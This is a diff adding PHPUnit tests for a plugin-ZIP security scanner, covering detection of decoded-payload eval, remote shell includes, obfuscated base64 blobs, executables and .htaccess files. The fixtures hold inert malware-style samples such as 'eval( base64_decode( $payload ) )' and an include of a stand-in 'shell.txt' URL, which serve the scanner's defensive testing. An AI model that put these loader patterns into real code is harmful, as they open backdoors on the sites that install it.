@@ -0,0 +1,203 @@
+<?php
+/**
+ * Unit tests for BPISecurityScanner.
+ *
+ * @package BulkPluginInstaller
+ */
+
+use PHPUnit\Framework\TestCase;
+
+/**
+ * Class SecurityScannerTest
+ *
+ * Tests the static scan of uploaded plugin ZIPs.
+ */
+class SecurityScannerTest extends TestCase {
+
+    private BPISecurityScanner $scanner;
+    private string $tempDir;
+
+    protected function setUp(): void {
+        parent::setUp();
+
+        global $bpi_test_options;
+        $bpi_test_options = array();
+
+        $this->tempDir = sys_get_temp_dir() . '/bpi_scan_' . uniqid();
+        mkdir( $this->tempDir, 0755, true );
+        $this->scanner = new BPISecurityScanner();
+    }
+
+    protected function tearDown(): void {
+        global $bpi_test_options;
+        $bpi_test_options = array();
+
+        foreach ( glob( $this->tempDir . '/*' ) as $file ) {
+            unlink( $file );
+        }
+        rmdir( $this->tempDir );
+        parent::tearDown();
+    }
+
+    public function test_clean_plugin_has_no_findings(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/my-plugin.php' => "<?php\n/* Plugin Name: My Plugin */\necho esc_html( base64_encode( 'hi' ) );\n",
+            'my-plugin/assets/app.js' => "console.log( 'ready' );\n",
+        ) );
+
+        $this->assertSame( array(), $this->scanner->scan( $zip ) );
+    }
+
+    public function test_flags_eval_of_decoded_payload_with_file_and_line(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/my-plugin.php' => "<?php\n// Plugin\n\$x = 1;\neval( base64_decode( \$payload ) );\n",
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertCount( 1, $findings );
+        $this->assertSame( 'eval_decoded', $findings[0]['rule'] );
+        $this->assertSame( BPISecurityScanner::SEVERITY_HIGH, $findings[0]['severity'] );
+        $this->assertSame( 'my-plugin/my-plugin.php', $findings[0]['file'] );
+        $this->assertSame( 4, $findings[0]['line'] );
+    }
+
+    public function test_flags_remote_include(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/my-plugin.php' => "<?php\ninclude 'https://example.com/shell.txt';\n",
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertSame( 'remote_include', $findings[0]['rule'] );
+        $this->assertSame( 2, $findings[0]['line'] );
+    }
+
+    public function test_flags_long_base64_blob_as_medium(): void {
+        $blob = str_repeat( 'QUJD', 300 );
+        $zip  = $this->createZip( array(
+            'my-plugin/data.php' => "<?php\n\$d = '" . $blob . "';\n",
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertSame( 'obfuscated_blob', $findings[0]['rule'] );
+        $this->assertSame( BPISecurityScanner::SEVERITY_MEDIUM, $findings[0]['severity'] );
+    }
+
+    public function test_flags_executables_and_htaccess_files(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/my-plugin.php' => "<?php\n",
+            'my-plugin/bin/tool.exe'  => 'MZ',
+            'my-plugin/.htaccess'     => 'Options +ExecCGI',
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+        $by_rule  = array_column( $findings, null, 'rule' );
+
+        $this->assertSame( BPISecurityScanner::SEVERITY_HIGH, $by_rule['executable']['severity'] );
+        $this->assertSame( 'my-plugin/bin/tool.exe', $by_rule['executable']['file'] );
+        $this->assertSame( 0, $by_rule['executable']['line'] );
+        $this->assertSame( BPISecurityScanner::SEVERITY_MEDIUM, $by_rule['server_config']['severity'] );
+    }
+
+    public function test_only_scans_code_files(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/readme.txt' => "eval( base64_decode( 'x' ) );\n",
+        ) );
+
+        $this->assertSame( array(), $this->scanner->scan( $zip ) );
+    }
+
+    public function test_medium_findings_in_earlier_files_do_not_hide_high_severity(): void {
+        global $bpi_test_options;
+        $bpi_test_options['bpi_security_scan'] = 'block';
+
+        $files = array();
+        for ( $i = 0; $i < 60; $i++ ) {
+            $files[ sprintf( 'my-plugin/dir-%02d/.htaccess', $i ) ] = "Deny from all\n";
+        }
+        $files['my-plugin/zz-loader.php'] = "<?php\neval( base64_decode( \$payload ) );\n";
+
+        $findings = $this->scanner->scan( $this->createZip( $files ) );
+
+        $this->assertCount( 50, $findings );
+        $this->assertSame( 'eval_decoded', $findings[0]['rule'] );
+        $this->assertTrue( $this->scanner->blocksInstall( $findings ) );
+    }
+
+    public function test_medium_findings_in_same_file_do_not_hide_high_severity(): void {
+        $blob = "\$d = '" . str_repeat( 'QUJD', 300 ) . "';\n";
+        $zip  = $this->createZip( array(
+            'my-plugin/data.php' => "<?php\n" . str_repeat( $blob, 60 ) . "eval( gzinflate( \$d ) );\n",
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertCount( 50, $findings );
+        $this->assertSame( 'eval_decoded', $findings[0]['rule'] );
+        $this->assertSame( 62, $findings[0]['line'] );
+    }
+
+    public function test_flags_php_file_too_large_to_scan_as_high(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/big.php' => "<?php\n" . str_repeat( '/* padding */', 200000 ) . "\neval( base64_decode( \$payload ) );\n",
+            'my-plugin/big.js'  => str_repeat( '/* bundle */', 200000 ),
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertCount( 1, $findings );
+        $this->assertSame( 'too_large', $findings[0]['rule'] );
+        $this->assertSame( BPISecurityScanner::SEVERITY_HIGH, $findings[0]['severity'] );
+        $this->assertSame( 'my-plugin/big.php', $findings[0]['file'] );
+    }
+
+    public function test_flags_eval_split_over_lines(): void {
+        $zip = $this->createZip( array(
+            'my-plugin/my-plugin.php' => "<?php\r\n// Plugin\r\neval(\r\n    base64_decode( \$payload )\r\n);\r\n",
+        ) );
+
+        $findings = $this->scanner->scan( $zip );
+
+        $this->assertCount( 1, $findings );
+        $this->assertSame( 'eval_decoded', $findings[0]['rule'] );
+        $this->assertSame( 3, $findings[0]['line'] );
+    }
+
+    public function test_unreadable_zip_has_no_findings(): void {
+        $this->assertSame( array(), $this->scanner->scan( $this->tempDir . '/missing.zip' ) );
+    }
+
+    public function test_blocks_install_only_in_block_mode_with_high_severity(): void {
+        global $bpi_test_options;
+
+        $high   = array( array( 'severity' => BPISecurityScanner::SEVERITY_HIGH ) );
+        $medium = array( array( 'severity' => BPISecurityScanner::SEVERITY_MEDIUM ) );
+
+        $this->assertSame( 'warn', $this->scanner->getMode() );
+        $this->assertFalse( $this->scanner->blocksInstall( $high ) );
+
+        $bpi_test_options['bpi_security_scan'] = 'block';
+
+        $this->assertTrue( $this->scanner->blocksInstall( $high ) );
+        $this->assertFalse( $this->scanner->blocksInstall( $medium ) );
+    }
+
+    /**
+     * Create a ZIP from a map of entry names to contents.
+     *
+     * @param array<string, string> $files Contents keyed by entry name.
+     * @return string Path to the ZIP.
+     */
+    private function createZip( array $files ): string {
+        $zip_path = $this->tempDir . '/plugin-' . uniqid() . '.zip';
+        $zip      = new \ZipArchive();
+        $zip->open( $zip_path, \ZipArchive::CREATE );
+        foreach ( $files as $name => $contents ) {
+            $zip->addFromString( $name, $contents );
+        }
+        $zip->close();
+        return $zip_path;
+    }
+}